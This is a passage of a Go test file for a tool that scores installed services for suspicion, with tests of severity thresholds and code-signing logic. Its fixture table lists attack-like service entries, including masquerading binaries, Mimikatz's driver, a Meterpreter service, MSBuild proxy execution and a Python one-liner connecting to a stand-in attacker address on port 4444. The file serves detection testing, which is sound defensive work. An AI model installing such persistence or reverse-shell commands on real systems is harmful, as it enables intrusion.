wuaserv|C:\Users\Public\Libraries\wuaserv.exe|0x10|LocalSystem
WinDefender|C:\Windows\scvhost.exe|0x10|LocalSystem
Themes Service|C:\Windows\System32\lsasss.exe|0x10|LocalSystem
backdoor|C:\PerfLogs\b.exe|0x10|LocalSystem
bin|C:\$Recycle.Bin\S-1-5-18\x.exe|0x10|LocalSystem
stream|C:\Windows\System32\drivers\etc\hosts:x.exe|0x10|LocalSystem
mimidrv|C:\Users\bob\Downloads\mimidrv.sys|0x1|
metsvc|C:\Windows\TEMP\GtRxQpWz\metsvc.exe service|0x10|LocalSystem
remote|\\tsclient\c\tools\r.exe|0x10|LocalSystem
msbuild|C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe C:\Users\Public\x.csproj|0x10|LocalSystem
sticky|C:\Windows\System32\cmd.exe|0x10|LocalSystem
agent|C:\Python27\python.exe -c "import socket,subprocess,os;s=socket.socket();s.connect(('203.0.113.7',4444))"|0x10|LocalSystem
mock|"C:\Windows \System32\winsat.exe"|0x10|LocalSystem
WinRM helper|C:\Users\bob\AppData\Roaming\qzxkvw.exe|0x10|bob
dbgsvc|C:\Windows\Tasks\dbgsvc.exe|0x10|LocalSystem
`

func TestAttacksAreHigh(t *testing.T) {
	all := rows(t, attacks)
	if len(all) < 40 {
		t.Fatalf("%d rows", len(all))
	}
	missed := 0
	for _, r := range all {
		v := judge(r.in)
		t.Logf("%3d %-13s %.90s", v.Score, v.Severity, r.name)
		if v.Score < 60 {
			missed++
			t.Logf("   below high:\n%s", v.Explain())
		}
		if v.Score < 40 {
			t.Errorf("%d %s: %s\n%s", v.Score, v.Severity, r.name, v.Explain())
		}
	}
	if missed > 2 {
		t.Errorf("%d of %d below high", missed, len(all))
	}
}

// What is to stay is judged otherwise than what is needed for a moment, and a tool
// that is known otherwise than one that is not.
func TestInstallsThatDifferInOneThing(t *testing.T) {
	for _, c := range []struct {
		name string
		in   service.Install
		want string
	}{
		{"a program in Temp, on demand", service.Install{Name: "Setup Helper", ImagePath: `C:\Windows\Temp\helper.exe`, Type: 16, Start: 3}, "medium"},
		{"a program in Temp, at every start", service.Install{Name: "Setup Helper", ImagePath: `C:\Windows\Temp\helper.exe`, Type: 16, Start: 2}, "high"},
		{"a bare name", service.Install{Name: "Helper", ImagePath: `helper.exe`, Type: 16, Start: 3}, "medium"},
		{"a name and the size of the processor's words", service.Install{Name: "qprobe", ImagePath: `C:\Windows\System32\drivers\qprobe_x64.sys`, Type: 1, Start: 3}, "informational"},
		{"a tree of software in the root", service.Install{Name: "Web", ImagePath: `C:\web\bin\httpd.exe`, Type: 16, Start: 2}, "informational"},
		{"a program in a directory of the root", service.Install{Name: "Web", ImagePath: `C:\web\httpd.exe`, Type: 16, Start: 2}, "low"},
		{"an agent for remote administration", service.Install{Name: "Remotely_Service", ImagePath: `C:\Program Files\Remotely\Remotely_Agent.exe`, Type: 16, Start: 2}, "low"},
	} {
		if got := judge(c.in); got.Severity != c.want {
			t.Errorf("%s is %d (%s), want %s: %v", c.name, got.Score, got.Severity, c.want, got.Reasons)
		}
	}
}

// A program that nobody signed: a reason, and by itself no finding. One that somebody
// signed is judged as before: anybody can buy a certificate.
func TestUnsigned(t *testing.T) {
	medium := 0
	for _, r := range rows(t, ordinary) {
		unknown := judge(r.in)
		r.in.Signed = evidence.Yes
		if v := judge(r.in); v.Score != unknown.Score {
			t.Errorf("a signature changes %d to %d: %s", unknown.Score, v.Score, r.name)
		}
		r.in.Signed = evidence.No
		v := judge(r.in)
		if strings.Contains(v.Explain(), "_tool ") {
			continue // a tool everybody knows is signed: what has its name and is not, is another
		}
		if v.Score <= unknown.Score || v.Score >= 60 {
			t.Errorf("%d, unsigned %d: %s\n%s", unknown.Score, v.Score, r.name, v.Explain())
		}
		if v.Score >= 40 {
			medium++
			t.Logf("%d, unsigned %d: %s", unknown.Score, v.Score, r.name)
		}
		r.in.OnDisk = evidence.No
		if v := judge(r.in); strings.Contains(v.Explain(), "unsigned") {
			t.Errorf("no signature is known of a file that isn't there: %s", r.name)
		}
	}
	if medium > 2 {
		t.Errorf("%d ordinary services are medium when nobody signed them", medium)
	}
	for _, c := range []struct {
		name string
		in   service.Install
		want string // in the evidence
		low  bool
	}{
		{"among Windows' own", service.Install{Name: "GruntHTTP", ImagePath: `C:\Windows\System32\GruntHTTP2.exe`}, "system's own", true},
		{"a library", service.Install{Name: "NetHelper", ImagePath: `C:\Windows\System32\svchost.exe -k netsvcs`, ServiceDLL: `C:\Windows\System32\nethelp.dll`, Type: service.TypeShareProcess}, "nethelp.dll", true},
		{"a driver", service.Install{Kind: service.Driver, Name: "oddity", ImagePath: `system32\drivers\oddity.sys`}, "oddity.sys", true},
		{"elsewhere", service.Install{Name: "Agent", ImagePath: `"C:\Program Files\Agent\agent.exe"`}, "agent.exe", false},
		{"on macOS", service.Install{Kind: service.Launchd, Name: "org.example.agent", ImagePath: "/usr/local/bin/agent", UnitPath: "/Library/LaunchDaemons/org.example.agent.plist"}, "/usr/local/bin/agent", false},
		{"among macOS' own", service.Install{Kind: service.Launchd, Name: "org.example.agent", ImagePath: "/usr/libexec/agent", UnitPath: "/Library/LaunchDaemons/org.example.agent.plist"}, "system's own", true},
	} {
		c.in.Signed = evidence.No
		v := judge(c.in)
		if !strings.Contains(v.Explain(), "unsigned") || !strings.Contains(v.Explain(), c.want) || c.low != (v.Score >= 20) {
			t.Errorf("%s: %s", c.name, v.Explain())
		}
	}
	for _, broken := range []bool{false, true} {
		v := judge(service.Install{Name: "Agent", ImagePath: `"C:\Program Files\Agent\agent.exe"`, Signed: evidence.No, Broken: broken, OnDisk: evidence.Yes})
		if strings.Contains(v.Explain(), "broken_signature") != broken || strings.Contains(v.Explain(), "unsigned") == broken || broken != (v.Score >= 30) {
			t.Errorf("a signature that does not hold (%v): %s", broken, v.Explain())
		}
	}
	v := judge(service.Install{Kind: service.Systemd, Name: "a.service", ImagePath: "/usr/sbin/a", UnitPath: "/etc/systemd/system/a.service", Signed: evidence.No})
	if strings.Contains(v.Explain(), "unsigned") {
		t.Errorf("programs are not signed on Linux: %s", v.Explain())
	}
}
